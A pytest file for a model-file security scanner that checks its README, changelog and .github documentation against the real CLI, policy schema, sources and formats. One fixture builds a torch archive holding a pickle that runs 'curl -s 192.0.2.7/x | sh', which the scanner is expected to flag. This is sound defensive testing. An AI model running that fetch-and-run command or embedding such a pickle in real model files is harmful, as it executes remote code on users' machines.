"""What the documents say is so: commands parse, links lead somewhere, examples are read as they are meant."""

import ast
import re
import shlex
import tomllib
from collections import Counter
from collections.abc import Iterator
from dataclasses import MISSING, fields
from itertools import chain
from pathlib import Path
from typing import NamedTuple

import pytest
import typer
import yaml

import scanner
from scanner import cli, formats, pack, policy, policy_file, sources
from scanner.cli import application
from scanner.packs import manifest
from tests import generate
from tests.builders import archives, pickles

ROOT = Path(__file__).parent.parent
GITHUB = ROOT / ".github"
DOCUMENTS = sorted((ROOT / "README.md", ROOT / "CHANGELOG.md", *GITHUB.rglob("*.md")))

FENCE = re.compile(r"^```(?P<kind>\w*)\n(?P<text>.*?)^```$", re.DOTALL | re.MULTILINE)
INLINE = re.compile(r"`assay ([^`]+)`")
LINK = re.compile(r"(?P<picture>!?)\[(?P<text>[^\]]*)\]\((?P<target>[^)\s]+)\)")
HEADING = re.compile(r"^#{1,6} (.+)$", re.MULTILINE)
OPERATORS = frozenset(("|", "&&", "||", ";", ">", "<"))
PLACEHOLDER = re.compile(r"[A-Z]+")


def text_of(document: Path) -> str:
    return document.read_text(encoding="utf-8")


def prose_of(document: Path) -> str:
    return FENCE.sub("", text_of(document))


def blocks(document: Path, kind: str) -> list[str]:
    return [found["text"] for found in FENCE.finditer(text_of(document)) if found["kind"] == kind]


def shown(document: Path) -> str:
    return document.relative_to(ROOT).as_posix()


class Line(NamedTuple):
    """A call of the program, by its words, and the document that has it."""

    words: tuple[str, ...]
    document: str


def calls(block: str) -> Iterator[tuple[str, ...]]:
    """Yield the calls of the program in a block for a shell, without its name."""
    for line in block.replace("\\\n", " ").splitlines():
        lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        command: list[str] = []
        for word in [*lexer, ";"]:
            if word not in OPERATORS:
                command.append(word)
                continue
            while command and re.match(r"[A-Z_]+=", command[0]):
                command.pop(0)
            if command and command[0].rpartition("/")[2] == "assay":
                yield tuple(command[1:])
            command = []


FENCED = [
    Line(words, shown(document))
    for document in DOCUMENTS
    for block in [*blocks(document, "sh"), *blocks(document, "shell")]
    for words in calls(block)
]
WRITTEN = [
    Line(tuple(found.split()), shown(document))
    for document in DOCUMENTS
    for found in INLINE.findall(prose_of(document))
]


def command(words: tuple[str, ...]):
    """Find the command that words name; return it, and the words behind its name."""
    found, rest = typer.main.get_command(application.application()), list(words)
    while hasattr(found, "commands") and rest and not rest[0].startswith("-"):
        assert rest[0] in found.commands, f"no verb is called {rest[0]}"
        found = found.commands[rest.pop(0)]
    return found, rest


@pytest.mark.parametrize("line", FENCED, ids=lambda line: f"{line.document}: {' '.join(line.words)}")
def test_a_command_in_a_document_is_understood(line):
    found, rest = command(line.words)
    assert not hasattr(found, "commands"), "a group of verbs does nothing by itself"
    found.make_context(line.words[0], rest)


@pytest.mark.parametrize("line", WRITTEN, ids=lambda line: f"{line.document}: {' '.join(line.words)}")
def test_a_verb_in_a_sentence_exists_with_its_options(line):
    verb, *rest = line.words
    if PLACEHOLDER.fullmatch(verb):
        return
    for name in rest[0].split("|") if "|" in "".join(rest[:1]) else [None]:
        found, left = command((verb, *((name, *rest[1:]) if name else rest)))
        known = set(chain.from_iterable([*one.opts, *one.secondary_opts] for one in found.params)) | {"--help"}
        assert {word.partition("=")[0] for word in left if word.startswith("--")} <= known


def test_documents_have_commands_of_every_verb():
    assert {line.words[0] for line in FENCED} >= set(application.VERBS) - {"formats", "schema"}


def anchors(document: Path) -> set[str]:
    """Name the headings as GitHub does: small letters, no punctuation, a number behind what is there already."""
    seen = Counter[str]()
    names = set()
    for heading in HEADING.findall(prose_of(document)):
        plain = re.sub(r"\[([^\]]*)\]\([^)]*\)|[`*]", r"\1", heading).lower().strip()
        name = re.sub(r"[^\w\- ]", "", plain).replace(" ", "-")
        names.add(f"{name}-{seen[name]}" if seen[name] else name)
        seen[name] += 1
    return names


@pytest.mark.parametrize("document", DOCUMENTS, ids=shown)
def test_every_link_leads_to_a_file_and_a_heading_of_it(document):
    for link in LINK.finditer(prose_of(document)):
        path, _, anchor = link["target"].partition("#")
        if ":" in path:
            continue
        target = (document.parent / path).resolve() if path else document
        assert target.exists(), link["target"]
        assert target.is_relative_to(ROOT), link["target"]
        assert not anchor or anchor in anchors(target), link["target"]


def test_pictures_are_described_in_words():
    found = [link for link in LINK.finditer(text_of(ROOT / "README.md")) if link["picture"]]
    assert found
    assert all(len(link["text"].split()) > 10 for link in found)


def test_readme_shows_what_the_program_prints(tmp_path, monkeypatch, capsys):
    (tmp_path / "model.pt").write_bytes(archives.torch_zip(pickles.system("curl -s 192.0.2.7/x | sh")))
    (tmp_path / ".git").mkdir()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("COLUMNS", "100")
    assert cli.main(["scan", "model.pt"]) == 1
    printed = "".join(line for line in capsys.readouterr().out.splitlines(keepends=True) if "judged by" not in line)
    (block,) = re.findall(
        r"<!-- finding -->\n```\n\$ assay scan model\.pt\n(.*?)```", text_of(ROOT / "README.md"), re.DOTALL
    )
    assert block == printed


def test_python_in_documents_compiles_and_imports_what_there_is():
    for block in chain.from_iterable(blocks(document, "python") for document in DOCUMENTS):
        for node in ast.walk(ast.parse(block)):
            if isinstance(node, ast.ImportFrom) and node.module == "scanner":
                assert {name.name for name in node.names} <= set(scanner.__all__)


@pytest.mark.parametrize("document", [ROOT / "README.md", GITHUB / "POLICY.md"], ids=shown)
def test_a_policy_in_a_document_is_read_and_names_rules_that_exist(document, tmp_path):
    found = blocks(document, "toml")
    assert found
    for text in found:
        (tmp_path / "assay.toml").write_text(text, encoding="utf-8")
        policy_file.check_rules(policy_file.load(tmp_path / "assay.toml"), pack.load().ids)


def keys_of(kind: type) -> dict[str, str]:
    """Name what a file can say of a kind, and the default of each as the tables write it."""
    return {one.name: default(one) for one in fields(kind) if one.name not in policy_file.NOT_IN_A_FILE}


def default(field) -> str:
    value = field.default if field.default_factory is MISSING else field.default_factory()
    match value:
        case _ if value is MISSING:
            return "required"
        case None:
            return "none"
        case bool():
            return f"`{str(value).lower()}`"
        case str():
            return f'`"{value}"`'
        case tuple():
            return "`[]`"
    return "`{}`"


@pytest.mark.parametrize(
    ("heading", "kind"),
    [
        ("Policy keys", policy.Policy),
        ("Waivers", policy.Waiver),
        ("Profiles", policy.Profile),
        ("Rule packs", policy.RulePacks),
    ],
)
def test_every_key_of_a_policy_is_described_with_its_default(heading, kind):
    section = re.split(rf"^## {heading}$", text_of(GITHUB / "POLICY.md"), flags=re.MULTILINE)[1].partition("\n## ")[0]
    rows = re.findall(r"^\| `(\w+)` \| [^|]+ \| ([^|]+) \| [^|]+ \|$", section, re.MULTILINE)
    assert dict(rows) == keys_of(kind)


def test_the_whole_policy_has_every_key():
    told = tomllib.loads(blocks(GITHUB / "POLICY.md", "toml")[-1])
    assert set(told) | {"profiles"} == set(keys_of(policy.Policy))
    assert set(told["waivers"][0]) == set(keys_of(policy.Waiver))
    assert set(told["profiles"]["product"]) == set(keys_of(policy.Profile))
    assert set(told["rules"]) == set(keys_of(policy.RulePacks))


def test_every_source_is_described_with_targets_that_it_claims():
    rows = re.findall(r"^\| \[(\w+)\]\(#[\w-]+\) \| ([^|]+) \|", text_of(GITHUB / "SOURCES.md"), re.MULTILINE)
    named = {source.__name__.rpartition(".")[2]: source for source in sources.discover()}
    assert {name for name, _ in rows} == {*named, "folder"}
    for name, targets in rows:
        for target in re.findall(r"`([^`]+)`", targets):
            owners = [other for other, source in named.items() if source.claims(target)]
            assert owners == ([] if name == "folder" else [name]), target


def test_every_scheme_of_the_readme_is_claimed():
    rows = re.findall(r"^\| (`[^|]+) \| [^|]+ \|$", text_of(ROOT / "README.md"), re.MULTILINE)
    targets = [target for row in rows for target in re.findall(r"`([^`]+)`", row)]
    claimed = {source for target in targets for source in sources.discover() if source.claims(target)}
    assert claimed == set(sources.discover())


def test_the_manifest_of_a_pack_of_rules_is_read():
    (text,) = (block for block in blocks(GITHUB / "CONTRIBUTING.md", "yaml") if "engine:" in block)
    assert manifest.parse(text.encode(), "acme").name == "acme"


@pytest.mark.parametrize("document", DOCUMENTS, ids=shown)
def test_yaml_in_a_document_is_yaml(document):
    for text in blocks(document, "yaml"):
        yaml.safe_load(text)


def test_every_extra_is_named_and_none_that_there_is_not():
    extras = tomllib.loads(text_of(ROOT / "pyproject.toml"))["project"]["optional-dependencies"]
    ours = {name for name in extras if name not in {"test", "dev", "bench", "fuzz"}}
    written = "".join(map(text_of, DOCUMENTS))
    assert set(re.findall(r"modelassay\[([\w,]+)\]", written)) <= set(extras)
    assert set(re.findall(r"`modelassay\[(\w+)\]`", text_of(GITHUB / "COMMANDS.md"))) == ours


def test_variables_of_the_environment_are_those_that_the_program_asks_for():
    code = "".join(map(text_of, (ROOT / "scanner").rglob("*.py")))
    section = text_of(GITHUB / "COMMANDS.md").partition("## Environment")[2].partition("<!--")[0]
    found = re.findall(r"`([A-Z]+_[A-Z_]+)`", section)
    assert found
    assert all(f'"{name}"' in code for name in found)


def test_every_verb_and_every_format_has_its_place():
    commands = text_of(GITHUB / "COMMANDS.md")
    assert all(f"\n## assay {verb}\n" in commands for verb in generate.verbs())
    table = text_of(GITHUB / "FORMATS.md")
    assert all(f"\n| [{one.name}](" in table for one in formats.discover())


def test_the_readme_is_short_enough_to_be_read():
    assert len(text_of(ROOT / "README.md").splitlines()) <= 260
